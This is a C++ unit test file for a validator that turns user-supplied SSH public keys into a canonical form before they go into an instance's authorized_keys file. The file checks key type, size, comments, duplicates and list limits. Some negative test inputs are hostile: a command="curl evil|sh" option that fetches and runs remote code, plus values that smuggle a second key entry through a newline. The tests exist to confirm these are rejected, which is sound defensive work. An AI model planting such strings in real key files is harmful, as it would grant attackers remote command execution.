// Keys as ssh-keygen writes them are taken as they are; anything that could put more than one
// key, or options, into an instance's authorized_keys is refused with the field named.
#include "services/auth/ssh_public_key.h"

#include <gtest/gtest.h>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"

namespace gpuaas::auth {
namespace {

// Written by ssh-keygen 9.2 (-t ed25519 / -t rsa -b 2048 / -b 1024 / -t ecdsa -b 256).
const std::string kEd25519 =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFiZJpML3nAyVZErME87CmA912oq/vHdMd3cpR4zjQtb";
const std::string kRsa2048 =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCnXSgc69TiSkRZbUSYOTNzBcc4nzY70mQzzhFc9f0bzuwmnqMol+xez"
    "VKrAjr8AFFGHuxC4e+JhzLSZmUlS/tqZCUOLacsYdgEnQgM1iPmpRhMAzWIQE5qCgfVTghlWrZMRdIuu64F/gYuqsAM+"
    "jqqp5Iy3R3U04rfZiH1ECKkT+d9rZH6XLmbm8PZS0rMab9jj8AS7gU4E+wCtZUuOLYW983FTTlorX+30cUJXWrkTnRVC"
    "NfgdPHV3NEArQ+qnp7kvLs+ZIudEjJJG5IIx/cINi2wGp+Gx8u7Vi+2tw/q1e8XOBpk3IfKb673luFM+Ty6uYAJ92hs/W"
    "lko3HNqB3r";
const std::string kRsa1024 =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDexTjzQs2Ogm9Igfoj5jaftVMKK5D7+f9xX/bsXIZ18f2xTiN6W8PB+v"
    "5QVgorb+6d4zkmvnsstM4pBYsGx4l0JylsjJ0TThcu1IsM53mXf54NSy2J1nKqEkFpLN0RhwVI1QyR7pvgZWT5ZIm3Enu"
    "A1EexlsNSS9bpbfSkMU51sQ==";
const std::string kEcdsa256 =
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBEkeeKCKg5xqjb2rl2aez"
    "WAmGdcRoOXxIDB4mh2bOyubWXSBY7Z/VomYIzYuQEsx/1DNfQ1dxcXaWE3Kg2He92o=";

std::string Error(const std::string& line) {
  absl::StatusOr<std::string> key = CanonicalSshPublicKey("user.ssh_public_keys[0]", line);
  EXPECT_FALSE(key.ok()) << line;
  EXPECT_TRUE(absl::IsInvalidArgument(key.status()));
  return std::string(key.status().message());
}

TEST(SshPublicKey, TakesKeysAsSshKeygenWritesThem) {
  for (const std::string* key : {&kEd25519, &kRsa2048, &kEcdsa256}) {
    EXPECT_EQ(CanonicalSshPublicKey("k", *key).value_or(""), *key);
    // A .pub file's line, pasted with its newline and a comment.
    EXPECT_EQ(
        CanonicalSshPublicKey("k", absl::StrCat("  ", *key, "  ana@laptop home\n")).value_or(""),
        absl::StrCat(*key, " ana@laptop home"));
  }
}

TEST(SshPublicKey, RefusesWhatIsNotOneKey) {
  EXPECT_EQ(Error(""), "user.ssh_public_keys[0]: required");
  // Options would make the key run a command of the writer's choice, or widen where it works.
  EXPECT_NE(Error(absl::StrCat("command=\"curl evil|sh\" ", kEd25519)).find("options"),
            std::string::npos);
  EXPECT_NE(Error(absl::StrCat("from=\"*\" ", kEd25519)).find("must start with a key type"),
            std::string::npos);
  // A second line would be a second, unchecked authorized_keys entry.
  EXPECT_NE(Error(absl::StrCat(kEd25519, " a\ncommand=\"x\" ", kEd25519)).find("one line"),
            std::string::npos);
  EXPECT_NE(Error(absl::StrCat(kEd25519, " a\rb")).find("one line"), std::string::npos);
  EXPECT_NE(Error("ssh-ed25519").find("base64 is missing"), std::string::npos);
  EXPECT_NE(Error("ssh-ed25519 AAAA$$$$").find("base64"), std::string::npos);
  EXPECT_NE(Error("ssh-dss AAAAB3NzaC1kc3M=").find("key type"), std::string::npos);
  // The blob says what it is: an RSA key under the ed25519 name, or a cut key, is not a key.
  EXPECT_NE(Error(absl::StrCat("ssh-ed25519", kRsa2048.substr(7))).find("not a ssh-ed25519 key"),
            std::string::npos);
  EXPECT_NE(Error(kEd25519.substr(0, kEd25519.size() - 4)).find("not"), std::string::npos);
  std::string blob;
  ASSERT_TRUE(absl::Base64Unescape(kEd25519.substr(12), &blob));
  EXPECT_NE(Error(absl::StrCat("ssh-ed25519 ", absl::Base64Escape(blob + "tail")))
                .find("not a valid ssh-ed25519 key"),
            std::string::npos);
  EXPECT_EQ(Error(kRsa1024),
            "user.ssh_public_keys[0]: an RSA key of 1024 bits; at least 2048 are needed");
  EXPECT_NE(Error(absl::StrCat(kEd25519, " ", std::string(300, 'c'))).find("comment"),
            std::string::npos);
  EXPECT_NE(Error(std::string(9000, 'a')).find("8 KiB"), std::string::npos);
}

TEST(SshPublicKey, AListHasSixteenKeysAtMostEachOnce) {
  google::protobuf::RepeatedPtrField<std::string> keys;
  *keys.Add() = std::string(kEd25519);
  *keys.Add() = absl::StrCat(kRsa2048, " work");
  absl::StatusOr<std::vector<std::string>> ok =
      CanonicalSshPublicKeys("user.ssh_public_keys", keys);
  ASSERT_TRUE(ok.ok()) << ok.status();
  EXPECT_EQ(ok->size(), 2u);

  *keys.Add() = absl::StrCat(kEd25519, " the same key, another comment");
  EXPECT_EQ(CanonicalSshPublicKeys("user.ssh_public_keys", keys).status().message(),
            "user.ssh_public_keys[2]: the same key as user.ssh_public_keys[0]");
  keys.RemoveLast();
  *keys.Add() = "nonsense";
  EXPECT_NE(CanonicalSshPublicKeys("user.ssh_public_keys", keys)
                .status()
                .message()
                .find("user.ssh_public_keys[2]: "),
            std::string::npos);
  keys.Clear();
  for (int i = 0; i < 17; ++i) *keys.Add() = std::string(kEd25519);
  EXPECT_EQ(CanonicalSshPublicKeys("user.ssh_public_keys", keys).status().message(),
            "user.ssh_public_keys: at most 16 keys");
}

}  // namespace
}  // namespace gpuaas::auth
